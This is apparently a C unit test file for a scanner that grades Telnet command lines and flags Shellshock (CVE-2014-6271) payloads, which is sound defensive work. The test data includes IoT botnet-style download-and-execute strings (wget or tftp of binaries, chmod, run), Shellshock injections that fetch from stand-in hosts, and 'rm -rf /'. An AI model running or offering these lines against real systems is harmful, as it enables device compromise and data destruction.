/*
 * test_line.c - Telnet command lines, GRADING.md §5 (and §2's payloads in
 * a line).
 *
 * Each row: one line (CR/LF already trimmed, as the Telnet reader does),
 * the grade, commands, URLs, hosts and CVE bits of its one payload.
 */
#include <stdlib.h>

#include "ss.h"
#include "unit.h"

static ss_rules_t *rules;
static ss_result_t res;

static void init(void)
{
    if (!rules) {
        rules = ss_rules_new();
        ss_result_init(&res);
    }
}


typedef struct {
    const char *line;
    ss_grade_t grade;
    const char *commands;
    const char *urls;
    const char *hosts;
    unsigned cves;
} line_case_t;

static void check_lines(const line_case_t *cases, size_t n)
{
    char buf[4096];
    init();
    for (size_t i = 0; i < n; i++) {
        const line_case_t *c = &cases[i];
        ss_payload_t *p = ss_scan_command_line(rules, c->line, strlen(c->line), &res);
        CU_ASSERT_PTR_NOT_NULL_FATAL(p);
        bool ok = p->grade == c->grade && p->cves == c->cves;
        if (!ok)
            fprintf(stderr, "\n  line: %s: grade %d cves %#x", c->line, p->grade, p->cves);
        CU_ASSERT_EQUAL(p->grade, c->grade);
        CU_ASSERT_EQUAL(p->cves, c->cves);
        CU_ASSERT_EQUAL(res.n_payloads, 1);
        CU_ASSERT_PTR_EQUAL(p, &res.payloads[0]);
        CU_ASSERT_EQUAL(res.max_grade, p->grade);
        CU_ASSERT_EQUAL(p->vector, SS_VEC_TELNET_COMMAND);
        CU_ASSERT_PTR_NULL(p->header);
        CU_ASSERT_EQUAL(p->payload_len, strlen(c->line));
        HS_ASSERT_STR(p->payload, c->line);
        const char *got = hs_join(p->commands, p->n_commands, buf, sizeof(buf));
        if (strcmp(got, c->commands))
            fprintf(stderr, "\n  line: %s", c->line);
        HS_ASSERT_STR(got, c->commands);
        got = hs_join(p->urls, p->n_urls, buf, sizeof(buf));
        HS_ASSERT_STR(got, c->urls);
        got = hs_join(p->hosts, p->n_hosts, buf, sizeof(buf));
        HS_ASSERT_STR(got, c->hosts);
    }
}

#define CHECK_LINES(cases) check_lines(cases, sizeof(cases) / sizeof(cases[0]))

static void test_plain_lines(void)
{
    static const line_case_t cases[] = {
        {"enable", SS_GRADE_YELLOW, "enable", "", "", 0},
        {"system", SS_GRADE_YELLOW, "system", "", "", 0},
        {"shell", SS_GRADE_YELLOW, "shell", "", "", 0},
        {"sh", SS_GRADE_YELLOW, "sh", "", "", 0},
        {"ls", SS_GRADE_GREEN, "ls", "", "", 0},
        {"/sbin/ping www.yahoo.com", SS_GRADE_YELLOW, "ping", "", "www.yahoo.com", 0},
        {"/bin/busybox ECCHI", SS_GRADE_YELLOW, "ECCHI", "", "", 0},
        {"cd /tmp || cd /var/run; wget http://5.6.7.8/mips; chmod +x mips; ./mips telnet",
         SS_GRADE_RED, "cd,cd,wget,chmod,./mips", "http://5.6.7.8/mips", "5.6.7.8", 0},
        {"/bin/busybox wget http://1.2.3.4/x -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
         SS_GRADE_RED, "wget,chmod", "http://1.2.3.4/x", "1.2.3.4", 0},
        {"tftp -g -r x86 1.2.3.4", SS_GRADE_RED, "tftp", "tftp://1.2.3.4/x86", "1.2.3.4", 0},
        {"  id  ", SS_GRADE_GREEN, "id", "", "", 0},
        {">dvrHelper", SS_GRADE_GREEN, "", "", "", 0},
        {"export PATH=/bin", SS_GRADE_GREEN, "export", "", "", 0},
        {"x='(not) {a payload'", SS_GRADE_GREEN, "", "", "", 0},
    };
    CHECK_LINES(cases);
}

static void test_payload_lines(void)
{
    static const line_case_t cases[] = {
        /* opener at the line start: the whole line is the payload */
        {"() { :;}; /bin/busybox wget http://1.2.3.4/b; sh b", SS_GRADE_RED, "wget,sh",
         "http://1.2.3.4/b", "1.2.3.4", SS_CVE_2014_6271},
        {"() { :; }; echo vulnerable", SS_GRADE_GREEN, "echo", "", "", SS_CVE_2014_6271},
        {"  (){ :;}; ping -c1 9.9.9.9", SS_GRADE_YELLOW, "ping", "", "9.9.9.9", SS_CVE_2014_6271},
        /* a quoted assignment value: its own enclosure */
        {"env x='() { :;}; echo vulnerable' bash -c \"echo this is a test\"", SS_GRADE_GREEN,
         "echo,echo", "", "", SS_CVE_2014_6271},
        {"env X='() { :;}; wget http://e.e/x' sh -c id", SS_GRADE_RED, "id,wget", "http://e.e/x",
         "e.e", SS_CVE_2014_6271},
        {"export HTTP_X=\"() { :;}; ping -c1 9.9.9.9\"", SS_GRADE_YELLOW, "export,ping", "",
         "9.9.9.9", SS_CVE_2014_6271},
        {"X='() { :;}; curl http://c.c/' bash", SS_GRADE_RED, "bash,curl", "http://c.c/", "c.c",
         SS_CVE_2014_6271},
        /* an unquoted value runs to the end of the line */
        {"x=() { :;}; wget http://1.2.3.4/a", SS_GRADE_RED, "wget", "http://1.2.3.4/a",
         "1.2.3.4", SS_CVE_2014_6271},
        {"cd /tmp; X=() { :; }; curl http://h.example/x", SS_GRADE_RED, "cd,curl",
         "http://h.example/x", "h.example", SS_CVE_2014_6271},
        /* no closing brace: still a payload, no CVE, no commands; the URL
         * is in the line's text all the same */
        {"x='() { :; wget http://u.u/'", SS_GRADE_GREEN, "", "http://u.u/", "u.u", 0},
        /* several payloads in one line */
        {"env a='() { :;}; id' b='() { :;}; rm x' true", SS_GRADE_RED, "true,id,rm", "", "",
         SS_CVE_2014_6271},
        /* an opener not at a value's start is nothing */
        {"echo x='() { :;}; rm -rf /'", SS_GRADE_GREEN, "echo", "", "", 0},
    };
    CHECK_LINES(cases);
}

static void test_blank_lines(void)
{
    init();
    static const char *const blanks[] = {"", " ", "\t \t", "\r", "\n"};
    for (size_t i = 0; i < sizeof(blanks) / sizeof(blanks[0]); i++) {
        CU_ASSERT_PTR_NULL(ss_scan_command_line(rules, blanks[i], strlen(blanks[i]), &res));
        CU_ASSERT_EQUAL(res.n_payloads, 0);
        CU_ASSERT_EQUAL(res.max_grade, SS_GRADE_NONE);
    }
    static const char nuls[] = " \0\0 \0";
    CU_ASSERT_PTR_NULL(ss_scan_command_line(rules, nuls, sizeof(nuls) - 1, &res));
    CU_ASSERT_PTR_NULL(ss_scan_command_line(rules, NULL, 0, &res));
    /* A previous result is reset. */
    ss_scan_command_line(rules, "wget x", 6, &res);
    CU_ASSERT_EQUAL(res.n_payloads, 1);
    CU_ASSERT_PTR_NULL(ss_scan_command_line(rules, "  ", 2, &res));
    CU_ASSERT_EQUAL(res.n_payloads, 0);
}

static void test_line_caps(void)
{
    init();
    /* 70 commands in a line plus a payload's: the list stays capped. */
    char line[2048] = "";
    for (int i = 0; i < 70; i++)
        strcat(line, "id;");
    strcat(line, "x='() { :;}; wget http://w.w/'");
    ss_payload_t *p = ss_scan_command_line(rules, line, strlen(line), &res);
    CU_ASSERT_PTR_NOT_NULL_FATAL(p);
    CU_ASSERT_EQUAL(p->n_commands, SS_MAX_COMMANDS);
    CU_ASSERT(p->problems & SS_PROB_COMMANDS_TRUNCATED);
    CU_ASSERT_EQUAL(p->grade, SS_GRADE_RED);
    CU_ASSERT_EQUAL(p->n_urls, 1);

    /* More payloads than SS_MAX_PAYLOADS in one line. */
    line[0] = '\0';
    strcat(line, "env");
    for (int i = 0; i < SS_MAX_PAYLOADS + 2; i++)
        strcat(line, " a='() { :;}; id'");
    strcat(line, " true");
    p = ss_scan_command_line(rules, line, strlen(line), &res);
    CU_ASSERT_PTR_NOT_NULL_FATAL(p);
    CU_ASSERT(p->problems & SS_PROB_TOO_MANY_PAYLOADS);
    CU_ASSERT_EQUAL(p->n_commands, 1 + SS_MAX_PAYLOADS);

    /* User rows apply to the line and to its payloads. */
    ss_rules_t *r = ss_rules_new();
    ss_rules_set_user(r, "wget", SS_GRADE_GREEN);
    p = ss_scan_command_line(r, "() { :;}; wget x.y/z", 20, &res);
    CU_ASSERT_PTR_NOT_NULL_FATAL(p);
    CU_ASSERT_EQUAL(p->grade, SS_GRADE_GREEN);
    ss_rules_free(r);
}

static void test_hostile_lines(void)
{
    init();
    static const char *const lines[] = {
        "()", "() {", "(){", "x=(", "x=()", "x=() {", "env x='() {", "env x=\"() { \\\"",
        "() { :;}; $(", "export", "env", "x=() { :;};", "'", "\"() {", "a=b=() { :;}; id",
    };
    for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
        size_t k = strlen(lines[i]);
        char *exact = malloc(k);
        memcpy(exact, lines[i], k);
        ss_payload_t *p = ss_scan_command_line(rules, exact, k, &res);
        CU_ASSERT_PTR_NOT_NULL(p);
        if (p)
            CU_ASSERT(p->grade >= SS_GRADE_GREEN && p->grade <= SS_GRADE_RED);
        free(exact);
    }
    static const char nul[] = "id\0x='() { :;}; rm y'";
    ss_payload_t *p = ss_scan_command_line(rules, nul, sizeof(nul) - 1, &res);
    CU_ASSERT_PTR_NOT_NULL_FATAL(p);
    CU_ASSERT(p->problems & SS_PROB_NUL_IN_VALUE);
    CU_ASSERT_EQUAL(p->payload_len, sizeof(nul) - 1);
    /* A long line of nested openers. */
    size_t n = 200000;
    char *big = malloc(n);
    for (size_t i = 0; i < n; i += 10)
        memcpy(big + i, "x=() { $( ", 10);
    p = ss_scan_command_line(rules, big, n, &res);
    CU_ASSERT_PTR_NOT_NULL(p);
    free(big);
}

/* The line's own walk reads the user's command table too: behind a user
 * "prefix" command, env's assignments are looked at as behind sudo. */
static void test_user_prefix_line(void)
{
    ss_rules_t *r = ss_rules_new();
    CU_ASSERT_PTR_NOT_NULL_FATAL(r);
    const char *line = "doas env x='() { :;}; wget http://p.example/x' bash";
    ss_result_t out;
    ss_result_init(&out);
    ss_payload_t *p = ss_scan_command_line(r, line, strlen(line), &out);
    CU_ASSERT_PTR_NOT_NULL_FATAL(p);
    CU_ASSERT_EQUAL(p->cves, 0); /* doas unknown: its arguments are data */
    ss_command_row_t row = {"doas", NULL, SS_GRADE_NONE, "prefix", "-u", NULL};
    CU_ASSERT_TRUE_FATAL(ss_rules_add_command(r, &row, NULL));
    p = ss_scan_command_line(r, line, strlen(line), &out);
    CU_ASSERT_PTR_NOT_NULL_FATAL(p);
    CU_ASSERT_NOT_EQUAL(p->cves, 0);
    CU_ASSERT_EQUAL(p->grade, SS_GRADE_RED);
    CU_ASSERT_EQUAL(p->n_urls, 1);
    ss_result_free(&out);
    ss_rules_free(r);
}

static CU_TestInfo tests[] = {
    {"plain command lines", test_plain_lines},
    {"lines holding Shellshock payloads", test_payload_lines},
    {"blank lines give no payload", test_blank_lines},
    {"caps and user rows", test_line_caps},
    {"hostile lines", test_hostile_lines},
    {"user prefix commands", test_user_prefix_line},
    CU_TEST_INFO_NULL,
};

HS_UNIT_MAIN("line", tests)
